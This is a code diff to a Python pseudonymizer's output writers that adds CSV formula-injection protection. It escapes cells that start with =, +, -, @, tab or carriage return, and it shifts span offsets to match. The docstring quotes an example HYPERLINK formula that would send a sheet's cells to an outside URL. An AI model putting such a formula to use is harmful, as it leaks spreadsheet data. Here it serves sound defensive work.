@@ -5,6 +5,13 @@ Every writer takes an iterable of `OutputDocument`s and a destination: a path (o
 UTF-8, with no newline translation) or a text stream that the caller opened (for CSV, with
 `newline=""`, or a "\\r\\n" inside a text may come back changed). Each returns how many
 documents it wrote. Documents are written as they come, so a corpus need not fit in memory.
+
+A CSV is read by spreadsheets, which run a cell that starts with `=`, `+`, `-` or `@` (or a tab
+or carriage return) as a formula: a typed pseudonym `=HYPERLINK("http://…?x="&A1,"Zed")` would
+send the sheet's cells away. Every such cell of a CSV is written with an apostrophe before it
+(`spreadsheet_safe`, the audit log's CSV does the same), so it shows as text; a text cell that
+got one has its spans' offsets moved by one, so that they stay right in the cell as written.
+JSONL and CoNLL are written as the documents are.
 """
 
 from __future__ import annotations
@@ -24,6 +31,16 @@ from pseudonymizer.spans import Span
 
 CONLL_OUTSIDE = "O"
 CSV_COLUMNS = ("id", "lang", "text", "spans")
+# What a spreadsheet runs as a formula when a cell starts with it (OWASP's list).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+# What goes before such a cell: spreadsheets show a cell that starts with it as text.
+TEXT_MARK = "'"
+
+
+def spreadsheet_safe(value: str) -> str:
+    """`value` as a CSV cell that a spreadsheet shows and never runs: with `TEXT_MARK` before
+    it when it starts as a formula does (`FORMULA_STARTS`), else as it is."""
+    return TEXT_MARK + value if value.startswith(FORMULA_STARTS) else value
 
 
 @dataclass
@@ -115,7 +132,11 @@ def write_csv(
 ) -> int:
     """Write CSV with the columns id, lang, text, spans (a JSON list, as in JSONL), then one
     column per name in `metadata_columns` (a string as it is, anything else as JSON, missing
-    as empty). Fields are quoted as needed, so line breaks inside a text survive."""
+    as empty). Fields are quoted as needed, so line breaks inside a text survive.
+
+    A cell that a spreadsheet would run as a formula gets `TEXT_MARK` before it
+    (`spreadsheet_safe`); when the text's does, its spans' offsets count the mark, so that
+    `text[start:end]` of the cell as written is still each span's text."""
     reserved = [name for name in metadata_columns if name in CSV_COLUMNS]
     if reserved:
         raise ValueError(f"metadata column {reserved[0]!r} is one of {', '.join(CSV_COLUMNS)}")
@@ -126,12 +147,19 @@ def write_csv(
         for document in documents:
             spans = _check(document)
             extra = [_cell(document.metadata.get(name)) for name in metadata_columns]
+            text = spreadsheet_safe(document.text)
+            shift = len(text) - len(document.text)
+            records = [
+                {**span_record(span, document.text), "start": span.start + shift,
+                 "end": span.end + shift}
+                for span in spans
+            ]  # fmt: skip
             writer.writerow(
                 [
-                    document.id or "",
-                    document.language or "",
-                    document.text,
-                    _dumps([span_record(span, document.text) for span in spans]),
+                    spreadsheet_safe(document.id or ""),
+                    spreadsheet_safe(document.language or ""),
+                    text,
+                    _dumps(records),
                     *extra,
                 ]
             )
@@ -142,7 +170,7 @@ def write_csv(
 def _cell(value: object) -> str:
     if value is None:
         return ""
-    return value if isinstance(value, str) else _dumps(value)
+    return spreadsheet_safe(value if isinstance(value, str) else _dumps(value))
 
 
 # --- CoNLL -----------------------------------------------------------------------------------
